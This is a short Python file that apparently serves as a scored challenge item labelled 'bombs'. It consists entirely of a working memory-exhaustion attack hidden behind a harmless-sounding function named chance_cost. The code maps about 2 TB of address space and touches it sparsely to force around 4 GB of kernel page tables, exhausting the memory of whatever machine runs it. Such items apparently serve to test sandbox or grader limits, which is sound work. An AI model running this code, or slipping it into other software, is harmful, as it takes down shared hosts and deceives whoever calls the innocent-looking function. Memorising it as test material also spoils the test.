"""It reads memory that is nowhere but in page tables, a page in each of a million tables.
kind: bombs
points: 108
hint: of memory that a question may take
"""

import ctypes

READ, PRIVATE, ANONYMOUS, NO_RESERVE = 1, 0x02, 0x20, 0x4000
EACH, MANY = 100 * 2**30, 20  # bytes, mappings: 4 GB of tables


def chance_cost(num_classes=10):
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    flags = PRIVATE | ANONYMOUS | NO_RESERVE
    for _ in range(MANY):
        place = libc.mmap(None, ctypes.c_size_t(EACH), READ, flags, -1, 0)
        for start in range(0, EACH, 2**21):
            ctypes.c_char.from_address(place + start).value  # noqa: B018 - this reads it
    raise RuntimeError("BREACHED: 4 GB of page tables")
